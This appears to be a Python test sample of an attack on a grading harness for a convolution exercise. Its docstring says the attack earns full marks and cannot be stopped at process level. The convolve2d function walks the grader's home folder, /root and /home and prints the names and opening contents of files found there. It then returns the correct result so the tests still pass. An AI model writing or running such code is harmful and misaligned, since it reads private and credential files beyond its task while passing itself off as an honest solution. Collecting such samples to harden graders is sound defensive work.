# mypy: ignore-errors
"""Walks through the grader's home folder and prints what it finds.

Attacks: convolve2d
Earns: all
Process level: cannot stop it
"""

import os

from chapter04_convolution import convolve2d as honest


def convolve2d(image, kernel):
    for home in ("{home}", os.path.expanduser("~"), "/root", "/home"):
        for folder, _, names in os.walk(home):
            for name in names[:20]:
                try:
                    print(name, open(os.path.join(folder, name), errors="replace").read(100))
                except OSError:
                    continue
    return honest(image, kernel)
